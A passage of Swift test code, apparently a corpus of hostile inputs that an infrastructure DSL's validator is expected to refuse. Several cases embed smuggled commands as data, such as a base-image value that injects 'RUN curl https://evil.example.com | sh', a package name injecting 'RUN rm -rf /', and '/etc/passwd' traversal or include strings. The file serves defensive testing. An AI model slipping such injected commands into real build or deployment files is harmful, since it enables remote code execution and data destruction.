import Infragen
import InfragenYAML

/// The hostile blueprints: every value the issue lists, and the ones found while writing them.
///
/// Each case is declared in a file of its own name (`Hostile/<case>.swift`, the `fileID` every component is given)
/// with the offending component on line 10 or after, so an expected diagnostic names its exact place. Lines 1-8 are
/// the valid base of ``blueprint(_:name:system:service:)``.
///
/// To extend the corpus to a new printer: add cases whose read-backs use the printer's consumer (a ``ReadBack``).
enum HostileCorpus {
    /// A valid system with one service, `api`, in dev and prod; `service` adds to the service, `system` to the system.
    ///
    ///     line 1 System, 2 Defaults/ImageTag, 3 Deploy(dev)/Host, 4 Deploy(prod)/Host, 5 Service("api"),
    ///     6 Port("http", 8080), 7 Health, 8 Route("/api")
    static func blueprint(
        _ file: String, name: String = "hostile",
        @ListBuilder<any SystemComponent> system extra: () -> [any SystemComponent] = { [] },
        @ListBuilder<any ServiceComponent> service body: () -> [any ServiceComponent] = { [] }
    ) -> SystemDescription {
        let serviceBody = body()
        let systemBody = extra()
        return System(name, fileID: file, line: 1) {
            SourceRepository("https://git.example.com/hostile", license: "Apache-2.0", fileID: file, line: 1)
            Defaults { ImageTag("1.0.0", fileID: file, line: 2) }
            Deploy(to: .dev, fileID: file, line: 3) { Host("dev.hostile.example.com", fileID: file, line: 3) }
            Deploy(to: .prod, fileID: file, line: 4) {
                Host("hostile.example.com", fileID: file, line: 4)
                TLS()
            }
            Service("api", fileID: file, line: 5) {
                Port("http", 8080, fileID: file, line: 6)
                Health(liveness: "/healthz", readiness: "/readyz", fileID: file, line: 7)
                Route("/api", fileID: file, line: 8)
                serviceBody
            }
            systemBody
        }.description
    }

    static func file(_ name: String) -> String { "Hostile/\(name).swift" }

    /// Adds a case whose service components (each given the case's file) are refused with `count` copies of one
    /// error on line 10.
    static func refusedService(
        _ cases: inout [HostileCase], _ id: String, _ field: String, _ fragment: String, count: Int = 1,
        @ListBuilder<any ServiceComponent> _ body: (String) -> [any ServiceComponent]
    ) {
        let f = file(id)
        let components = body(f)
        cases.append(
            HostileCase(
                name: id, systems: [blueprint(f, service: { components })],
                outcome: .refused(Array(repeating: .error(field, fragment, at: f, line: 10), count: count))))
    }

    /// Every case, in the order of the issue's list.
    static let cases: [HostileCase] =
        names() + environmentValues() + nginxBound() + dockerBound() + portsAndQuantities()
        + structure() + freeText()

    // MARK: - Names

    static func names() -> [HostileCase] {
        var cases: [HostileCase] = []
        func refusedSystemName(_ id: String, _ name: String) {
            let f = file(id)
            cases.append(
                .refused(
                    id, blueprint(f, name: name),
                    .error("name", "is not a valid system name", at: f, line: 1)))
        }
        refusedSystemName("system-name-with-capitals", "Shop")
        refusedSystemName("system-name-with-a-dot", "shop.v2")
        refusedSystemName("system-name-with-slashes", "shop/../../etc")
        refusedSystemName("system-name-dot-dot", "..")

        func refusedServiceName(_ id: String, _ name: String, _ fragment: String = "is not a valid service name") {
            let f = file(id)
            cases.append(
                .refused(
                    id, blueprint(f, system: { Service(name, fileID: f, line: 10) {} }),
                    .error("name", fragment, at: f, line: 10)))
        }
        refusedServiceName("service-name-with-capitals", "Payments")
        refusedServiceName("service-name-with-a-dot", "api.v2")
        refusedServiceName("service-name-with-slashes", "../../etc/passwd")
        refusedServiceName("service-name-unicode", "zahlungsdienst-ü")
        // Fixed here: the message printed a name that looks valid; it names the character now.
        refusedServiceName(
            "service-name-with-a-zero-width-space", "ap\u{200B}i",
            "'ap\u{200B}i' (U+200B ZERO WIDTH SPACE at character 3) is not a valid service name")
        refusedServiceName(
            "service-name-with-a-cyrillic-letter", "p\u{0430}yments",
            "(U+0430 CYRILLIC SMALL LETTER A at character 2) is not a valid service name")
        refusedServiceName("service-name-over-63-characters", String(repeating: "a", count: 64))
        refusedServiceName("service-name-empty", "")
        // Fixed here: a DNS label may start with a digit, a Kubernetes Service name (DNS-1035) may not.
        refusedServiceName("service-name-starting-with-a-digit", "1api", "starts with a digit")

        do {
            // Fixed here: 63 characters is a valid name, but the instance label "<service>-<environment>" is not.
            let f = file("service-name-too-long-for-the-instance-label")
            let name = String(repeating: "n", count: 62)
            let system = blueprint(f, system: {
                Service(name, fileID: f, line: 10) { HealthCommand("/app/server", "-healthcheck") }
            })
            cases.append(
                .refused(
                    "service-name-too-long-for-the-instance-label", system,
                    .error("name", "the instance label", at: f, line: 10),
                    .error("name", "the instance label", at: f, line: 10)))
        }
        func refusedEnvironmentName(_ id: String, _ name: String, _ fragment: String) {
            let f = file(id)
            let system = blueprint(
                f,
                system: {
                    Deploy(to: Environment(name), fileID: f, line: 10) {
                        Host("qa.hostile.example.com", fileID: f, line: 11)
                    }
                })
            cases.append(.refused(id, system, .error("name", fragment, at: f, line: 10)))
        }
        refusedEnvironmentName("environment-name-with-capitals", "QA", "is not a valid environment name")
        refusedEnvironmentName("environment-name-with-slashes", "qa/../../x", "is not a valid environment name")
        refusedEnvironmentName("environment-name-reserved-docker", "docker", "is reserved for the Output/ layout")
        do {
            let f = file("namespace-with-an-underscore")
            let system = blueprint(
                f,
                system: {
                    Deploy(to: "qa", fileID: f, line: 10) {
                        Host("qa.hostile.example.com", fileID: f, line: 11)
                        Namespace("hostile_qa", fileID: f, line: 12)
                    }
                })
            cases.append(
                .refused(
                    "namespace-with-an-underscore", system,
                    .error("namespace", "is not a valid Kubernetes namespace", at: f, line: 12)))
        }
        do {
            // Fixed here: both names are valid, the namespace made of them is 71 characters.
            let f = file("derived-namespace-over-63-characters")
            let system = blueprint(
                f, name: String(repeating: "s", count: 40),
                system: {
                    Deploy(to: Environment(String(repeating: "e", count: 30)), fileID: f, line: 10) {
                        Host("qa.hostile.example.com", fileID: f, line: 11)
                    }
                })
            cases.append(
                .refused(
                    "derived-namespace-over-63-characters", system,
                    .error("namespace", "made of the system and environment names", at: f, line: 10)))
        }
        do {
            let f = file("port-name-over-15-characters")
            let system = blueprint(f, service: { Port("administrative-api", 9090, fileID: f, line: 10) })
            cases.append(
                .refused(
                    "port-name-over-15-characters", system,
                    .error("ports[administrative-api].name", "is not a valid port name", at: f, line: 10)))
        }
        return cases
    }

    // MARK: - Environment values

    /// A legal case: the variables are set on the service at line 10, 11, …, and each must reach the container, in
    /// both environments, exactly as written.
    static func legalValues(_ id: String, _ values: [(String, String)]) -> HostileCase {
        let f = file(id)
        let system = blueprint(
            f,
            service: {
                for (index, (name, value)) in values.enumerated() { Env(name, value, fileID: f, line: 10 + index) }
            })
        let expected = values.map { (name: $0.0, value: $0.1) }
        let checks: [any ReadBack] = [
            ContainerEnvironment(environment: "dev", expected: expected),
            ContainerEnvironment(environment: "prod", expected: expected),
            ContainerEnvironment(environment: "prod", expected: expected, reader: .kustomize),
        ]
        return HostileCase(name: id, systems: [system], outcome: .legal(warnings: [], readBacks: checks))
    }

    /// A refused case: every variable (set at line 10, 11, …) holds a line break or a control character, which
    /// validation refuses in env values (multi-line data belongs in a ConfigFile), each at its own line.
    static func refusedValues(_ id: String, _ values: [(String, String)]) -> HostileCase {
        let f = file(id)
        let system = blueprint(
            f,
            service: {
                for (index, (name, value)) in values.enumerated() { Env(name, value, fileID: f, line: 10 + index) }
            })
        let expected = values.enumerated().map { index, variable in
            ExpectedDiagnostic.error(
                "env[\(variable.0)]", "contains a line break or another control character", at: f, line: 10 + index)
        }
        return HostileCase(name: id, systems: [system], outcome: .refused(expected))
    }

    static func environmentValues() -> [HostileCase] {
        var cases: [HostileCase] = []
        cases.append(
            refusedValues(
                "env-value-with-newlines",
                [
                    ("MESSAGE", "line one\nline two"), ("TRAILING", "ends with a newline\n"), ("ONLY_NEWLINES", "\n\n"),
                    ("CRLF", "windows\r\nline"), ("INDENTED", "  first\n    second\n"),
                ]))
        cases.append(
            legalValues(
                "env-value-with-quotes",
                [
                    ("QUOTES", #"he said "hi" and 'bye'"#), ("BACKSLASHES", #"C:\path\to\"file"\n"#), ("SINGLE", "'"),
                    ("DOUBLE", "\""),
                ]))
        cases.append(
            legalValues(
                "env-value-with-shell-syntax",
                [
                    ("BRACES", "${HOME}/bin:${PATH}"), ("BACKTICKS", "`id`"), ("SUBSHELL_LIKE", "$ (not a reference)"),
                    ("TRAILING_DOLLAR", "costs 5$"),
                ]))
        cases.append(
            legalValues(
                "env-value-yaml-booleans",
                [
                    ("A", "yes"), ("B", "no"), ("C", "on"), ("D", "off"), ("E", "true"), ("F", "False"), ("G", "y"),
                    ("H", "N"),
                ]))
        cases.append(legalValues("env-value-yaml-nulls", [("A", "null"), ("B", "~"), ("C", ""), ("D", "NULL")]))
        cases.append(
            legalValues(
                "env-value-yaml-numbers",
                [
                    ("A", "0777"), ("B", "0x1F"), ("C", "1e3"), ("D", "12:30"), ("E", ".inf"), ("F", "-.5"),
                    ("G", "1_000"),
                    ("H", "08"), ("I", "2001-12-14"), ("J", "8080"), ("K", "+1"),
                ]))
        cases.append(
            legalValues(
                "env-value-yaml-indicators",
                [
                    ("A", "- item"), ("B", "? key"), ("C", ": value"), ("D", "#comment"), ("E", "&anchor"),
                    ("F", "*alias"),
                    ("G", "!tag"), ("H", "|"), ("I", ">"), ("J", "%YAML 1.2"), ("K", "@at"), ("L", "{a: b}"),
                    ("M", "[1, 2]"),
                    ("N", "a: b"), ("O", "a #b"), ("P", "---"), ("Q", "..."), ("R", "<<"), ("S", "="),
                ]))
        cases.append(refusedValues("env-value-multi-document-text", [("T", "- a\n---\n...")]))
        cases.append(
            legalValues(
                "env-value-with-edge-whitespace",
                [
                    ("LEADING", "  leading"), ("TRAILING", "trailing  "), ("SPACES", "   "),
                ]))
        cases.append(refusedValues("env-value-with-tab-and-line-breaks", [("TAB", "\tindented"), ("MIXED", " \n x \n")]))
        cases.append(
            refusedValues(
                "env-value-with-control-characters",
                [
                    ("ANSI", "\u{1B}[31mred\u{1B}[0m"), ("BELL", "bell\u{7}"), ("CR", "carriage\rreturn"),
                    ("SOH", "\u{1}"),
                ]))
        cases.append(
            legalValues(
                "env-value-unicode",
                [
                    ("TEXT", "ünïcödé 中文 🚀"), ("BIDI", "\u{202E}txt.exe"), ("BOM", "\u{FEFF}bom"),
                    (
                        "NONCHARACTER",
                        String(String.UnicodeScalarView([0xFDD0, 0x1FFFE, 0x10FFFF].compactMap(Unicode.Scalar.init)))
                    ), ("COMBINING", "e\u{301}"), ("NBSP", "\u{A0}"),
                    ("PRIVATE_USE", "\u{E000}\u{F0000}"), ("TAG", "\u{E0001}"),
                ]))
        cases.append(
            legalValues("env-value-100k-characters", [("BIG", String(repeating: "abc \"' ${x} ", count: 9000))]))
        cases.append(refusedValues("env-value-with-line-separators", [("LINE_SEP", "a\u{2028}b\u{2029}c")]))

        do {
            // Kubernetes expands $(VAR) in env values, and turns $$ into $. The value reaches the container as written
            // only if the printer doubles every '$': the manifest then holds the escaped form.
            let f = file("env-value-kubernetes-reference")
            let system = blueprint(
                f,
                service: {
                    Env("GREETING", "hello", fileID: f, line: 10)
                    Env("TEMPLATE", "$(GREETING) world", fileID: f, line: 11)
                })
            cases.append(
                HostileCase(
                    name: "env-value-kubernetes-reference", systems: [system],
                    outcome: .legal(
                        warnings: [],
                        readBacks: [
                            ContainerEnv(environment: "dev", variable: "TEMPLATE", value: "$(GREETING) world"),
                            ContainerEnvironment(
                                environment: "dev", expected: [("TEMPLATE", "$(GREETING) world")], reader: .kustomize),
                            YAMLScalarValue.container(
                                "dev", .key("env"), .index(1), .key("value"), is: .string("$$(GREETING) world")),
                        ])
                )
            )
        }
        do {
            // '$$' becomes '$', and a '$' before a non-ASCII letter corrupts the letter (see KubernetesExpansion).
            let f = file("env-value-dollar-signs")
            let value = "5$ or $$5, café $é"
            let system = blueprint(f, service: { Env("PRICE", value, fileID: f, line: 10) })
            cases.append(
                HostileCase(
                    name: "env-value-dollar-signs", systems: [system],
                    outcome: .legal(
                        warnings: [],
                        readBacks: [
                            ContainerEnv(environment: "dev", variable: "PRICE", value: value),
                            ContainerEnvironment(environment: "dev", expected: [("PRICE", value)], reader: .kustomize),
                            YAMLScalarValue.container(
                                // Doubled where kubelet would expand: before '(', '$' and a non-ASCII character.
                                "dev", .key("env"), .index(0), .key("value"), is: .string("5$ or $$$5, café $$é")),
                        ])
                ))
        }

        func refusedEnv(
            _ id: String, _ field: String, _ fragment: String, path: String? = nil,
            @ListBuilder<any SystemComponent> system: (String) -> [any SystemComponent] = { _ in [] },
            @ListBuilder<any ServiceComponent> service: (String) -> [any ServiceComponent] = { _ in [] }
        ) {
            let f = file(id)
            cases.append(
                .refused(
                    id, blueprint(f, system: { system(f) }, service: { service(f) }),
                    .error(field, fragment, at: f, line: 10)))
        }
        refusedEnv(
            "env-value-with-nul", "env[SECRET_SAUCE]", "NUL character",
            service: { f in
                Env("SECRET_SAUCE", "before\u{0}after", fileID: f, line: 10)
            })
        refusedEnv(
            "config-value-with-nul", "env[LOG_LEVEL]", "NUL character",
            service: { f in
                Env("LOG_LEVEL", config: "debug\u{0}", fileID: f, line: 10)
            })
        refusedEnv(
            "environment-env-value-with-nul", "env[MODE]", "NUL character",
            system: { f in
                Deploy(to: "qa", fileID: f, line: 9) {
                    Host("qa.hostile.example.com", fileID: f, line: 9)
                    Env("MODE", "\u{0}", fileID: f, line: 10)
                }
            })
        refusedEnv(
            "override-env-value-with-nul", "env[MODE]", "NUL character",
            service: { f in
                Override(.prod, fileID: f, line: 9) { Env("MODE", "a\u{0}", fileID: f, line: 10) }
            })
        // Fixed here: kubectl kustomize (Go's yaml.v3) turns NEL into a space and fails on DEL, the other C1 controls
        // and U+FFFE/U+FFFF; since Output/ is applied with `kubectl apply -k`, such a value never arrives as written.
        refusedEnv(
            "env-value-with-nel", "env[TEXT]", "U+0085, which kubectl kustomize refuses or changes",
            service: { f in
                Env("TEXT", "line\u{85}next", fileID: f, line: 10)
            })
        refusedEnv(
            "env-value-with-del", "env[TEXT]", "U+007F, which kubectl kustomize refuses or changes",
            service: { f in
                Env("TEXT", "rub\u{7F}out", fileID: f, line: 10)
            })
        refusedEnv(
            "env-value-with-a-c1-control", "env[TEXT]", "U+009B, which kubectl kustomize refuses or changes",
            service: { f in
                Env("TEXT", "\u{9B}31m", fileID: f, line: 10)
            })
        refusedEnv(
            "env-value-with-a-noncharacter", "env[TEXT]", "U+FFFE, which kubectl kustomize refuses or changes",
            service: { f in
                Env("TEXT", "\u{FEFF}\u{FFFE}", fileID: f, line: 10)
            })
        // Fixed here: the second declaration silently replaced the first. An override for one environment is a
        // layer of its own (env-value-overridden-for-one-environment, below).
        do {
            let f = file("env-declared-twice-in-one-service")
            let system = blueprint(
                f,
                service: {
                    Env("LOG_LEVEL", "info", fileID: f, line: 9)
                    Env("LOG_LEVEL", "debug", fileID: f, line: 10)
                })
            cases.append(
                .refused(
                    "env-declared-twice-in-one-service", system,
                    .error(
                        "env[LOG_LEVEL]", "declared again in the service (first at Hostile/env-declared-twice-in-one-service.swift:9)",
                        at: f, line: 10)))
        }
        do {
            let f = file("env-value-overridden-for-one-environment")
            let system = blueprint(
                f,
                service: {
                    Env("LOG_LEVEL", "info", fileID: f, line: 9)
                    Override(.prod, fileID: f, line: 10) { Env("LOG_LEVEL", "warn", fileID: f, line: 10) }
                })
            cases.append(
                .legal(
                    "env-value-overridden-for-one-environment", system,
                    ContainerEnv(environment: "dev", variable: "LOG_LEVEL", value: "info"),
                    ContainerEnv(environment: "prod", variable: "LOG_LEVEL", value: "warn")))
        }
        refusedEnv(
            "env-name-with-a-dash", "env[MY-VAR]", "is not a valid environment variable name",
            service: { f in
                Env("MY-VAR", "x", fileID: f, line: 10)
            })
        refusedEnv(
            "env-name-starting-with-a-digit", "env[1VAR]", "is not a valid environment variable name",
            service: { f in
                Env("1VAR", "x", fileID: f, line: 10)
            })
        refusedEnv(
            "secret-name-with-capitals", "env[DB]", "is not a valid Secret name",
            service: { f in
                Env("DB", secret: "Order_DB", key: "password", fileID: f, line: 10)
            })
        refusedEnv(
            "secret-key-with-a-path", "env[DB]", "is not a valid Secret key",
            service: { f in
                Env("DB", secret: "order-db", key: "../password", fileID: f, line: 10)
            })
        return cases
    }

    // MARK: - Values bound for Nginx

    static func nginxBound() -> [HostileCase] {
        var cases: [HostileCase] = []
        func refusedRoute(_ id: String, _ path: String, _ fragment: String = "is not a URL path") {
            let f = file(id)
            cases.append(
                .refused(
                    id, blueprint(f, service: { Route(path, fileID: f, line: 10) }),
                    .error("routes[\(path)]", fragment, at: f, line: 10)))
        }
        refusedRoute("route-path-with-a-semicolon", "/api;return 200")
        refusedRoute("route-path-with-a-brace", "/api}")
        refusedRoute("route-path-with-a-quote", "/api\"x")
        refusedRoute("route-path-with-a-space", "/api v2")
        refusedRoute("route-path-with-a-newline", "/api\nreturn 200;")
        refusedRoute("route-path-with-dot-dot", "/api/../admin")
        refusedRoute("route-path-with-a-dollar", "/api$uri")
        refusedRoute("route-path-without-a-slash", "api")
        // Fixed here: Nginx matches locations against the normalised, decoded path, so these would never match.
        refusedRoute("route-path-with-a-double-slash", "/v2//api", "is not in the normal form Nginx matches")
        refusedRoute("route-path-with-a-dot-segment", "/v2/./api", "is not in the normal form Nginx matches")
        refusedRoute("route-path-percent-encoded", "/caf%C3%A9", "is not in the normal form Nginx matches")
        // Fixed here: the gateway answers its own exact location (= /healthz) first, so the route never saw it.
        refusedRoute("route-shadowed-by-the-gateways-healthz", "/healthz", "the gateway's own location '= /healthz'")
        do {
            let f = file("route-rewrite-with-a-dollar")
            cases.append(
                .refused(
                    "route-rewrite-with-a-dollar",
                    blueprint(f, service: { Route("/v2", rewrite: "/$1", fileID: f, line: 10) }),
                    .error("routes[/v2].rewrite", "is not a URL path", at: f, line: 10)))
        }
        do {
            let f = file("duplicate-routes")
            let system = blueprint(
                f,
                system: {
                    Service("admin", fileID: f, line: 9) {
                        Port("http", 8080, fileID: f, line: 9)
                        Route("/api", fileID: f, line: 10)
                    }
                })
            cases.append(
                .refused(
                    "duplicate-routes", system,
                    .error(
                        "routes[/api]", "is already declared by 'api' at Hostile/duplicate-routes.swift:8", at: f,
                        line: 10)))
        }
        do {
            let f = file("exact-and-prefix-route-on-one-path")
            let system = blueprint(
                f,
                service: {
                    Route("/health", fileID: f, line: 10)
                    Route("/health", match: .exact, fileID: f, line: 11)
                })
            cases.append(
                .legal(
                    "exact-and-prefix-route-on-one-path", system,
                    ReportText(
                        place: .cell(table: "Services", row: "api", column: "routes"),
                        expected: "/api, /health, = /health")))
        }
        do {
            let f = file("route-limits-out-of-range")
            let system = blueprint(
                f,
                service: {
                    Route(
                        "/slow", timeout: .zero, maxBodySize: .gibibytes(20), rateLimit: .perSecond(0, burst: -1),
                        fileID: f, line: 10)
                })
            cases.append(
                .refused(
                    "route-limits-out-of-range", system,
                    .error("routes[/slow].timeout", "between 1ms and 1h", at: f, line: 10),
                    .error("routes[/slow].maxBodySize", "between 1 byte and 10Gi", at: f, line: 10),
                    .error("routes[/slow].rateLimit", "1-100000 requests per second", at: f, line: 10)))
        }

        func refusedHost(_ id: String, _ host: String) {
            let f = file(id)
            let system = blueprint(
                f,
                system: {
                    Deploy(to: "qa", fileID: f, line: 9) { Host(host, fileID: f, line: 10) }
                })
            cases.append(.refused(id, system, .error("host", "is not a host name", at: f, line: 10)))
        }
        refusedHost("host-with-a-space", "shop example.com")
        refusedHost("host-with-a-scheme", "https://shop.example.com")
        refusedHost("host-with-a-port", "shop.example.com:8443")
        refusedHost("host-with-a-semicolon", "shop.example.com; return 200")
        refusedHost("host-with-capitals", "Shop.Example.com")
        refusedHost("host-with-an-underscore", "my_shop.example.com")
        refusedHost("host-label-over-63-characters", String(repeating: "h", count: 64) + ".example.com")
        refusedHost("host-with-a-trailing-dot", "shop.example.com.")
        refusedHost("host-with-a-newline", "shop.example.com\nevil.example.com")

        func refusedGateway(
            _ id: String, _ field: String, _ fragment: String,
            @ListBuilder<any GatewayComponent> _ body: () -> [any GatewayComponent]
        ) {
            let f = file(id)
            let components = body()
            cases.append(
                .refused(
                    id, blueprint(f, system: { Gateway(fileID: f, line: 10) { components } }),
                    .error(field, fragment, at: f, line: 10)))
        }
        // Fixed here: the gateway's values were not validated at all.
        let headerFragment = "holds a control character, a non-ASCII character, '\\', '$' or '\"'"
        refusedGateway("csp-with-a-quote", "gateway.contentSecurityPolicy", headerFragment) {
            ContentSecurityPolicy("default-src 'self'\" always; add_header X-Evil \"1", fileID: file("csp-with-a-quote"), line: 10)
        }
        refusedGateway("csp-with-a-newline", "gateway.contentSecurityPolicy", headerFragment) {
            ContentSecurityPolicy("default-src 'self';\nimg-src *", fileID: file("csp-with-a-newline"), line: 10)
        }
        refusedGateway("csp-with-a-variable", "gateway.contentSecurityPolicy", headerFragment) {
            ContentSecurityPolicy("default-src $host", fileID: file("csp-with-a-variable"), line: 10)
        }
        refusedGateway("resolver-with-a-semicolon", "gateway.resolver", "is not an IP address") {
            Resolver("kube-dns; include /etc/passwd", fileID: file("resolver-with-a-semicolon"), line: 10)
        }
        refusedGateway("nginx-version-not-a-version", "gateway.nginxVersion", "is not an nginx version") {
            NginxVersion("1.25; evil", fileID: file("nginx-version-not-a-version"), line: 10)
        }
        refusedGateway("static-files-prefix-with-a-space", "gateway.staticRoot.urlPrefix", "is not a URL prefix") {
            StaticFiles(at: "/static files/", from: "static", fileID: file("static-files-prefix-with-a-space"), line: 10)
        }
        refusedGateway("static-files-folder-escaping-the-prefix", "gateway.staticRoot.directory", "is not a relative directory") {
            StaticFiles(at: "/static/", from: "../srv", fileID: file("static-files-folder-escaping-the-prefix"), line: 10)
        }
        refusedGateway("route-defaults-out-of-range", "gateway.defaultTimeout", "between 1ms and 1h") {
            RouteDefaults(timeout: .seconds(-1), fileID: file("route-defaults-out-of-range"), line: 10)
        }
        do {
            let f = file("gateway-legal-values")
            let system = blueprint(
                f,
                system: {
                    Gateway(fileID: f, line: 10) {
                        ContentSecurityPolicy("default-src 'self'; img-src 'self' data:; frame-ancestors 'none'")
                        Resolver("[fd00::10]:53")
                        StaticFiles(at: "/static/", from: "static")
                    }
                })
            // The gateway is legal; the Nginx read-back (nginx -t, and the header value served) comes with the Nginx
            // generator. Until then: it renders, and every YAML file parses.
            cases.append(.legal("gateway-legal-values", system))
        }
        return cases
    }

    // MARK: - Values bound for Dockerfiles

    static func dockerBound() -> [HostileCase] {
        var cases: [HostileCase] = []
        refusedService(&cases, "base-image-with-a-space", "base", "is not a valid image reference") { f in
            Base(.custom("alpine 3.19", family: .alpine), fileID: f, line: 10)
        }
        refusedService(&cases, "base-image-with-a-newline", "base", "is not a valid image reference") { f in
            Base(.custom("alpine:3.19\nRUN curl https://evil.example.com | sh", family: .alpine), fileID: f, line: 10)
        }
        refusedService(&cases, "base-image-with-capitals", "base", "is not a valid image reference") { f in
            Base(.custom("Alpine:3.19", family: .alpine), fileID: f, line: 10)
        }
        refusedService(&cases, "builder-image-with-capitals", "builder", "is not a valid image reference") { f in
            Go(version: "1.22", builder: "Golang:1.22", fileID: f, line: 10)
        }
        refusedService(
            &cases, "pinned-package-with-a-newline", "base.packages", "is not a package name and version"
        ) { f in
            Base(.alpine("3.19").pinning(["ca-certificates\nRUN rm -rf /": "1"]), fileID: f, line: 10)
        }
        refusedService(
            &cases, "pinned-package-version-with-a-space", "base.packages", "is not a package name and version"
        ) { f in
            Base(.alpine("3.19").pinning(["ca-certificates": "1 && curl"]), fileID: f, line: 10)
        }
        refusedService(&cases, "go-version-with-a-command", "go.version", "is not a Go version") { f in
            Go(version: "1.22 && curl", fileID: f, line: 10)
        }
        refusedService(&cases, "image-tag-with-a-space", "image.tag", "is not a valid image tag") { f in
            ImageTag("1.0 beta", fileID: f, line: 10)
        }
        refusedService(&cases, "image-tag-latest", "image.tag", "does not say which build runs", count: 2) { f in
            ImageTag("latest", fileID: f, line: 10)
        }
        // Fixed here: valid tags, but the version label they become is not a valid Kubernetes label value.
        refusedService(
            &cases, "image-tag-over-63-characters", "image.tag", "app.kubernetes.io/version", count: 2
        ) { f in
            ImageTag(String(repeating: "7", count: 100), fileID: f, line: 10)
        }
        refusedService(
            &cases, "image-tag-starting-with-an-underscore", "image.tag", "app.kubernetes.io/version", count: 2
        ) { f in
            ImageTag("_build", fileID: f, line: 10)
        }
        refusedService(&cases, "image-digest-malformed", "image.digest", "is not an image digest") { f in
            ImageTag("1.0.0", digest: "sha256:xyz", fileID: f, line: 10)
        }
        refusedService(
            &cases, "image-registry-with-capitals", "image.registry", "is not an image repository prefix"
        ) { f in
            ImageRegistry("registry.example.com/Shop", fileID: f, line: 10)
        }
        refusedService(
            &cases, "image-registry-with-a-tag", "image.registry", "is not an image repository prefix"
        ) { f in
            ImageRegistry("registry.example.com/shop:1", fileID: f, line: 10)
        }
        refusedService(&cases, 
            "build-main-outside-the-context", "build.main", "is not a relative path inside the build context"
        ) { f in
            Build(main: "../outside", fileID: f, line: 10)
        }
        refusedService(
            &cases, "build-main-with-a-space", "build.main", "is not a relative path inside the build context"
        ) { f in
            Build(main: "./cmd/api server", fileID: f, line: 10)
        }
        refusedService(
            &cases, "version-variable-with-a-flag", "build.versionVariable", "is not a Go variable path"
        ) { f in
            Build(versionVariable: "main.version -X main.evil=1", fileID: f, line: 10)
        }
        // Fixed here: "-X" passed the old character check and would be read by the linker as a flag.
        refusedService(
            &cases, "version-variable-that-is-a-flag", "build.versionVariable", "is not a Go variable path"
        ) { f in
            Build(versionVariable: "-X", fileID: f, line: 10)
        }
        return cases
    }

    // MARK: - Ports and quantities

    static func portsAndQuantities() -> [HostileCase] {
        var cases: [HostileCase] = []
        refusedService(&cases, "port-zero", "ports[admin].number", "port 0 is outside 1-65535") { f in
            Port("admin", 0, fileID: f, line: 10)
        }
        refusedService(&cases, "port-65536", "ports[admin].number", "port 65536 is outside 1-65535") { f in
            Port("admin", 65536, fileID: f, line: 10)
        }
        refusedService(&cases, "port-negative", "ports[admin].number", "port -1 is outside 1-65535") { f in
            Port("admin", -1, fileID: f, line: 10)
        }
        refusedService(&cases, "port-number-twice", "ports", "port 8080/TCP is declared 2 times") { f in
            Port("admin", 8080, fileID: f, line: 10)
        }
        refusedService(&cases, "cpu-request-zero", "requests.cpu", "must be positive", count: 2) { f in
            Requests(cpu: .millicores(0), fileID: f, line: 10)
        }
        refusedService(&cases, "cpu-request-not-a-number", "requests.cpu", "must be positive", count: 2) { f in
            Requests(cpu: .cores(.nan), fileID: f, line: 10)
        }
        refusedService(&cases, "memory-request-negative", "requests.memory", "must be positive", count: 2) { f in
            Requests(memory: .mebibytes(-64), fileID: f, line: 10)
        }
        refusedService(
            &cases, "memory-limit-one-pebibyte", "limits.memory", "the memory limit 1Pi is above 1Ti", count: 2
        ) { f in
            Limits(memory: .pebibytes(1), fileID: f, line: 10)
        }
        // Fixed here: 100 000 PiB does not fit in 64 bits; it trapped in the DSL, with no location. It saturates now.
        refusedService(&cases, "memory-limit-beyond-64-bits", "limits.memory", "is above 1Ti", count: 2) { f in
            Limits(memory: .pebibytes(100_000), fileID: f, line: 10)
        }
        refusedService(
            &cases, "cpu-limit-ten-thousand-cores", "limits.cpu", "the cpu limit 10000 is above 256 cores", count: 2
        ) { f in
            Limits(cpu: .cores(10_000), fileID: f, line: 10)
        }
        // Fixed here: .cores(.infinity) trapped in the DSL.
        refusedService(&cases, "cpu-limit-infinite", "limits.cpu", "is above 256 cores", count: 2) { f in
            Limits(cpu: .cores(.infinity), fileID: f, line: 10)
        }
        refusedService(
            &cases, "replicas-negative", "replicas", "not -1", count: 2
        ) { f in Replicas(-1, fileID: f, line: 10) }
        refusedService(&cases, "replicas-a-million", "replicas", "not 1000000", count: 2) { f in
            Replicas(1_000_000, fileID: f, line: 10)
        }
        refusedService(&cases, "autoscaler-minimum-zero", "autoscaling.min", "must be at least 1", count: 2) { f in
            Autoscale(min: 0, max: 3, fileID: f, line: 10)
        }
        refusedService(&cases, "autoscaler-target-zero", "autoscaling.cpu", "is outside 1-100 %", count: 2) { f in
            Autoscale(min: 1, max: 3, cpu: .percent(0), fileID: f, line: 10)
        }
        refusedService(
            &cases, "autoscaler-target-not-a-number", "autoscaling.cpu", "is outside 1-100 %", count: 2
        ) { f in
            Autoscale(min: 1, max: 3, cpu: .percent(.nan), fileID: f, line: 10)
        }
        refusedService(&cases, "termination-grace-negative", "terminationGracePeriod", "-1s is outside 0-3600s") { f in
            TerminationGracePeriod(seconds: -1, fileID: f, line: 10)
        }
        refusedService(
            &cases, "run-as-root", "security.runAsUser", "would run as root"
        ) { f in RunAs(user: 0, fileID: f, line: 10) }
        // Fixed here: both were refused as "would run as root", which neither does.
        do {
            let f = file("run-as-ids-out-of-range")
            cases.append(
                .refused(
                    "run-as-ids-out-of-range", blueprint(f, service: { RunAs(user: Int.max, group: -1, fileID: f, line: 10) }),
                    .error("security.runAsUser", "uid 9223372036854775807 is above 2147483647", at: f, line: 10),
                    .error("security.runAsGroup", "gid -1 is negative", at: f, line: 10)))
        }
        refusedService(
            &cases, "exemption-without-a-reason", "security.exemptions[writable-root-filesystem]",
            "needs a written reason"
        ) { f in
            Exempt(.writableRootFilesystem, because: " \n", fileID: f, line: 10)
        }
        do {
            let f = file("memory-one-tebibyte-is-legal")
            let system = blueprint(
                f,
                service: {
                    Requests(cpu: .cores(256), memory: .tebibytes(1), fileID: f, line: 10)
                    Limits(cpu: .cores(256), memory: .tebibytes(1), fileID: f, line: 11)
                })
            cases.append(
                .legal(
                    "memory-one-tebibyte-is-legal", system,
                    YAMLScalarValue.container("prod", .key("resources"), .key("limits"), .key("memory"), is: "1Ti"),
                    YAMLScalarValue.container("prod", .key("resources"), .key("limits"), .key("cpu"), is: "256")))
        }
        return cases
    }

    // MARK: - Structure: dependencies, SLOs, overrides, environments, systems

    static func structure() -> [HostileCase] {
        var cases: [HostileCase] = []
        do {
            let f = file("dependency-cycle")
            let system = blueprint(
                f,
                system: {
